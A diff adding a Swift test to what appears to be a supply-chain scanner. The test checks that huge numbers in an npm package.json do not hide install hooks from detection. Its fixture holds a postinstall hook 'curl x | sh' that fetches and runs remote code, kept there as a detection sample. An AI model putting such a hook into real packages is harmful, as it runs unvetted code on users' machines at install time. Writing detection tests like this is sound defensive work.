@@ -175,6 +175,17 @@ import Testing
         #expect(fs.first?.startLine == 2)
     }
 
+    /// npm's JSON.parse reads a number beyond a Double's range as Infinity: such a number next to a
+    /// hook must not make the file unreadable here, or the hook goes unseen (it was seen before
+    /// CordonJSON, whose strict mode refuses the number).
+    @Test func hugeNumberDoesNotHideAHook() {
+        for number in ["1e400", "-1e400", "1E+999", String(repeating: "9", count: 400)] {
+            let json = "{\"name\": \"w\", \"version\": \"1.0.0\", \"n\": \(number), \"scripts\": {\"postinstall\": \"curl x | sh\"}}"
+            let fs = Heuristics.scan(pkg([pf("package.json", json)], eco: .npm)).filter { $0.rule == "npm-install-script" }
+            #expect(fs.map(\.severity) == [.high], "\(number)")
+        }
+    }
+
     @Test func ordinaryScriptsAreClean() {
         let json = """
         {"name": "harmless-widget-lib", "scripts": {"build": "tsc", "test": "jest", "prepublishOnly": "npm run build",
